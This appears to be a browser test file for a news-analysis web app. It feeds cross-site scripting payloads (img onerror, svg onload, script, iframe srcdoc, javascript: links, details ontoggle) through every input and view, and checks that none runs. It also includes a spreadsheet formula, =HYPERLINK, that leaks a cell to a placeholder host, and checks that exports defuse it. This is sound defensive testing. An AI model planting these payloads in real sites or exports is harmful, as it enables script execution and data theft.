// Web safety (issue 10): markup and script in everything a reader can bring to the page — the
// article text, file names, custom dictionaries (labels, ids, terms, category names, their file
// names), JSONL and CSV corpus fields (ids, titles, sources, dates, bad lines) — shown in every
// view that shows them: the charts and their tooltips, every table, the highlights and their
// explanations, the Follow menu, the legend, the status lines, the compare view, the corpus table,
// filters, source pickers and problem list, and the exports. Nothing may run.
//
// Each payload calls window.pwned(tag). The page is exercised twice: as built (its CSP meta tag
// would stop an inline handler, but must not even be asked to: no CSP violation is allowed), and
// with the CSP tag removed, so that only the page's own code — text always through Text nodes,
// never innerHTML — stands between a payload and the DOM.
//
//   node --test tests/web/xss.test.mjs        (after `make build`)

import assert from 'node:assert/strict';
import {readFileSync} from 'node:fs';
import {join} from 'node:path';
import {describe, test} from 'node:test';

import {
  analysed, analysisCount, assertClean, dist, downloadText, openPage, parseCsv, TIMEOUT_MS, withPage,
} from './harness.mjs';

/** Markup and script that would call pwned(tag) if it ever reached the DOM as HTML or a URL. */
const payload = (tag) => [
  `<img src=x onerror="pwned('${tag}:img')">`,
  `<svg onload="pwned('${tag}:svg')"></svg>`,
  `<script>pwned('${tag}:script')</script>`,
  `"><iframe srcdoc="<script>parent.pwned('${tag}:iframe')</script>"></iframe>`,
  `'><a id="xss-${tag}" href="javascript:pwned('${tag}:href')">link</a>`,
  `</textarea><details open ontoggle="pwned('${tag}:toggle')">`,
].join(' ');
/** A cell a spreadsheet would run as a formula. */
const FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"click")';

const ARTICLE = [
  'Trade talks in Geneva stalled on Monday, and the markets fell sharply.',
  `Officials said the ${payload('text')} delegation would return on Friday.`,
  'Farmers welcomed the friendly cooperation between the partners.',
  `${FORMULA} was written on a banner at the protest.`,
].join('\n\n');

/** A newslens JSON dictionary whose label (and terms) carry payloads; ids must be [a-z0-9_.]. */
const JSON_DICT = JSON.stringify({format: 'newslens/themes@1', themes: [
  {id: 'xss', label: payload('label'), terms: ['friendly', 'cooperation', 'partner*']},
  {id: 'xss.sub', label: `${FORMULA} ${payload('sublabel')}`, parent: 'xss', terms: ['farmer*']},
]});
/** A LIWC .dic whose category name is a payload (its id is the name with non-alphanumerics → _). */
const DIC = `%\n1\t${payload('category')}\n%\ntalks\t1\nmarket*\t1\n`;
/** A dictionary refused because of its id: the error names it, in the status line. */
const BAD_DICT = JSON.stringify({format: 'newslens/themes@1', themes: [{id: payload('id'), label: 'x', terms: ['x']}]});

const RECORDS = ['north', 'south'].flatMap((side, s) => [0, 1, 2].map((i) => ({
  id: `${payload(`id${s}${i}`)}`,
  title: i === 0 ? FORMULA : `${payload(`title${s}${i}`)} title`,
  source: `${payload(`source${s}`)} ${side}`,
  date: i === 2 ? payload(`date${s}`) : `2024-03-0${i + 1 + s}`,
  text: `The ${side} desk reports trade talks stalled and markets fell. ${payload(`body${s}${i}`)} Farmers welcomed cooperation.`,
})));
const JSONL = [...RECORDS.map((r) => JSON.stringify(r)), `{"text": 5, "id": "${payload('badline').replace(/"/g, '\\"')}"}`,
               `not json ${payload('notjson')}`].join('\n');
const csvField = (v) => `"${String(v).replace(/"/g, '""')}"`;
const CSV = ['id,title,source,date,text', ...RECORDS.map((r) =>
  [`csv-${r.id}`, r.title, r.source, r.date, r.text].map(csvField).join(',')),
             `${csvField(payload('csvbad'))},"unclosed`].join('\r\n');

const fileName = (tag, ext) => `<img src=x onerror=pwned('${tag}')>'"${ext}`;

withPage((env) => {
  /** Opens the page, with or without its CSP meta tag, with window.pwned recording calls. */
  async function open({csp}) {
    const context = await env.browser().newContext({viewport: {width: 1280, height: 900}, acceptDownloads: true});
    context.setDefaultTimeout(TIMEOUT_MS);
    await context.addInitScript(() => {
      window.__pwned = [];
      window.pwned = (tag) => window.__pwned.push(String(tag));
    });
    if (!csp) {
      const html = readFileSync(join(dist, 'index.html'), 'utf8');
      const stripped = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
      assert.notEqual(stripped, html, 'the page has a CSP meta tag to remove');
      await context.route('**/index.html', (route) =>
        route.fulfill({status: 200, contentType: 'text/html; charset=utf-8', body: stripped}));
    }
    const opened = await openPage(env.browser(), env.httpBase() + 'index.html', {context});
    await analysed(opened.page, 0);
    await opened.page.waitForFunction(() => window.newslensPage.moduleReady);
    return opened;
  }

  const choose = async (page, testid, files) => {
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click(`[data-testid="${testid}"]`)]);
    await chooser.setFiles(files);
  };
  const save = async (page, testid) => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(`[data-testid="${testid}"]`)]);
    return {name: download.suggestedFilename(), text: await downloadText(download)};
  };
  /** Shows every chart's table that is on screen, and hovers the middle of every visible chart. */
  const showEverything = async (page) => {
    for (const toggle of await page.$$('.table-toggle')) {
      if (await toggle.isVisible() && (await toggle.getAttribute('aria-expanded')) !== 'true') await toggle.click();
    }
    for (const canvas of await page.$$('canvas')) {
      if (!(await canvas.isVisible())) continue;
      const box = await canvas.boundingBox();
      for (const [fx, fy] of [[0.3, 0.2], [0.5, 0.5], [0.7, 0.8]]) {
        await page.mouse.move(box.x + box.width * fx, box.y + box.height * fy);
      }
    }
  };

  /** Everything in the DOM that could run: handlers, scripts, frames, javascript: URLs, and the
   *  elements the payloads would create. */
  const executable = (page) => page.evaluate(() => {
    const found = [];
    for (const node of document.querySelectorAll('*')) {
      for (const attr of node.attributes) {
        if (/^on/i.test(attr.name)) found.push(`${node.tagName} ${attr.name}`);
        if (/^\s*javascript:/i.test(attr.value)) found.push(`${node.tagName} ${attr.name}=${attr.value.slice(0, 40)}`);
      }
    }
    for (const node of document.querySelectorAll('script:not([src]), iframe, object, embed, img, details[ontoggle], [id^="xss-"]')) {
      found.push(node.outerHTML.slice(0, 80));
    }
    const scripts = [...document.querySelectorAll('script[src]')].map((s) => s.getAttribute('src'));
    if (scripts.join() !== 'newslens.js,sample.js,worker.js,app.js') found.push(`scripts: ${scripts.join()}`);
    return found;
  });

  async function exercise(page) {
    const status = page.locator('[data-testid="status"]');
    const seen = {};  // where each kind of payload was seen as text: proof it reached the view

    // Custom dictionaries: a JSON with payload labels, a LIWC .dic with a payload category, both
    // under payload file names; one refused for its id (the error is shown).
    let n = await analysisCount(page);
    await choose(page, 'open-dictionary', {name: fileName('dictname', '.json'), mimeType: 'application/json', buffer: Buffer.from(JSON_DICT)});
    await analysed(page, n);
    n = await analysisCount(page);
    await choose(page, 'open-dictionary', {name: fileName('dicname', '.dic'), mimeType: 'text/plain', buffer: Buffer.from(DIC)});
    await analysed(page, n);
    await choose(page, 'open-dictionary', {name: fileName('badname', '.json'), mimeType: 'application/json', buffer: Buffer.from(BAD_DICT)});
    await page.waitForFunction(() => window.newslensPage.dictionaryErrors === 1);
    seen.dictionaryError = await status.textContent();
    seen.dictionaryList = await page.textContent('[data-testid="dictionary-list"]');

    // The article, from a file with a payload name.
    n = await analysisCount(page);
    await choose(page, 'open-file', {name: fileName('articlename', '.txt'), mimeType: 'text/plain', buffer: Buffer.from(ARTICLE)});
    await analysed(page, n);
    seen.status = await status.textContent();
    const r = await page.evaluate(() => window.newslensPage.lastReport);
    const labels = r.top_level.map((t) => t.label).concat(r.themes.map((t) => t.label));
    assert.ok(labels.includes(payload('label')), `the payload label is a theme: ${labels.join(' | ')}`);
    assert.ok(labels.includes(payload('category')), 'the payload category is a theme');

    // Every article view: tables, chart hovers (tooltips), the Follow menu, the legend,
    // highlights hovered and followed.
    await showEverything(page);
    for (const label of [payload('label'), payload('category')]) {
      const value = await page.$$eval('[data-testid="focus-select"] option', (options, l) =>
        (options.find((o) => o.textContent.trim() === l) || {}).value, label);
      assert.ok(value, `the Follow menu lists ${label.slice(0, 30)}`);
      await page.selectOption('[data-testid="focus-select"]', value);
    }
    seen.why = await page.textContent('[data-testid="why"]');
    for (const mark of (await page.$$('[data-testid="article"] mark.hl')).slice(0, 12)) await mark.hover();
    await page.click('[data-testid="focus-clear"]');
    seen.themesTable = await page.textContent('#themes-table-wrap');
    seen.legend = await page.textContent('[data-testid="legend"]');
    seen.article = await page.textContent('[data-testid="article"]');

    // Compare with a second article from a payload-named file.
    await choose(page, 'compare-open', {name: fileName('comparename', '.md'), mimeType: 'text/markdown',
                                        buffer: Buffer.from(`# ${payload('compareheading')}\n\n${ARTICLE}`)});
    await page.waitForFunction(() => window.newslensPage.compareCount === 1, null, {timeout: TIMEOUT_MS});
    await showEverything(page);
    seen.compare = await status.textContent();

    // Exports: the payloads are data, the formula is defused.
    const json = await save(page, 'export-json');
    assert.deepEqual(JSON.parse(json.text), await page.evaluate(() => window.newslensPage.lastReport));
    const themes = parseCsv((await save(page, 'export-themes')).text);
    const sub = themes.find((row) => row[0] === 'xss.sub');
    assert.equal(sub[1], `'${FORMULA} ${payload('sublabel')}`, 'a label that starts like a formula is kept text');
    assert.ok(themes.some((row) => row[1] === payload('label')));
    const sentences = parseCsv((await save(page, 'export-sentences')).text);
    assert.ok(sentences.some((row) => row[6] === `'${FORMULA} was written on a banner at the protest.`),
              'a sentence that starts like a formula is kept text');

    // Corpus mode: a JSONL and a CSV with payload fields, names and bad lines.
    await page.click('[data-testid="tab-corpus"]');
    const runs = await page.evaluate(() => window.newslensPage.corpus.runs);
    await page.setInputFiles('[data-testid="corpus-files"]', [
      {name: fileName('jsonlname', '.jsonl'), mimeType: 'application/x-ndjson', buffer: Buffer.from(JSONL)},
      {name: fileName('csvname', '.csv'), mimeType: 'text/csv', buffer: Buffer.from(CSV)},
    ]);
    await page.waitForFunction((k) => window.newslensPage.corpus.runs > k && window.newslensPage.corpus.state === 'done',
                               runs, {timeout: TIMEOUT_MS});
    assert.equal(await page.evaluate(() => window.newslensPage.corpus.rows.length), 12);
    await page.click('[data-testid="corpus-problems"] summary');
    seen.problems = await page.textContent('[data-testid="corpus-problems-list"]');
    await showEverything(page);
    for (const select of ['corpus-filter-source', 'corpus-source-a', 'corpus-source-b', 'corpus-filter-theme']) {
      const values = await page.$$eval(`[data-testid="${select}"] option`, (o) => o.map((x) => x.value).filter(Boolean));
      if (values.length) await page.selectOption(`[data-testid="${select}"]`, values[values.length - 1]);
    }
    await page.selectOption('[data-testid="corpus-filter-source"]', '');
    await page.selectOption('[data-testid="corpus-filter-theme"]', '');
    await page.fill('[data-testid="corpus-filter"]', '<img');
    await page.fill('[data-testid="corpus-filter"]', '');
    seen.corpusTable = await page.textContent('[data-testid="corpus-table"]');
    seen.corpusSources = await page.textContent('[data-testid="corpus-source-a"]');
    const csv = parseCsv((await save(page, 'corpus-export-csv')).text);
    assert.ok(csv.slice(1).some((row) => row[1] === `'${FORMULA}`), 'a title that starts like a formula is kept text');
    const agg = JSON.parse((await save(page, 'corpus-export-json')).text);
    assert.ok(agg.sources.some((s) => s.source === `${payload('source0')} north`), 'the aggregate keeps the source as data');

    // A corpus row opened in the article view (its title is in the status line).
    const row = page.locator('[data-testid="corpus-table"] tbody tr', {hasText: "pwned('title01:img')"}).first();
    n = await analysisCount(page);
    await row.click();
    await analysed(page, n);
    await showEverything(page);
    seen.opened = await status.textContent();

    // The payloads were shown, as text, where they should be.
    const expect = {
      dictionaryError: 'badname', dictionaryList: "pwned('dicname')", status: "pwned('articlename')",
      why: 'category:img', themesTable: 'label:svg', legend: 'category:script', article: 'text:iframe',
      compare: "pwned('comparename')", problems: "pwned('jsonlname')", corpusTable: 'title01:img',
      corpusSources: 'source1:svg', opened: "pwned('title01:img')",
    };
    for (const [where, fragment] of Object.entries(expect)) {
      assert.ok(seen[where] && seen[where].includes(fragment), `${where} shows the payload as text: ${String(seen[where]).slice(0, 200)}`);
    }
  }

  describe('XSS payloads in every input, shown in every view', () => {
    for (const csp of [true, false]) {
      test(csp ? 'the page as built (strict CSP): nothing runs, and the CSP is never asked to refuse anything'
               : 'the page without its CSP tag: the page\'s own code keeps every payload text', async () => {
        const {context, page, log} = await open({csp});
        try {
          if (csp) {
            const meta = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
            assert.equal(meta, "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src blob:; " +
                               "style-src 'self'; img-src data:");
          } else {
            assert.equal(await page.$('meta[http-equiv="Content-Security-Policy"]'), null);
          }
          await exercise(page);
          assert.deepEqual(await page.evaluate(() => window.__pwned), [], 'no payload ran');
          assert.deepEqual(await executable(page), [], 'nothing executable was added to the page');
          await assertClean(page, log);  // no CSP violation, page error or dialog
        } finally {
          await context.close();
        }
      });
    }
  });
});
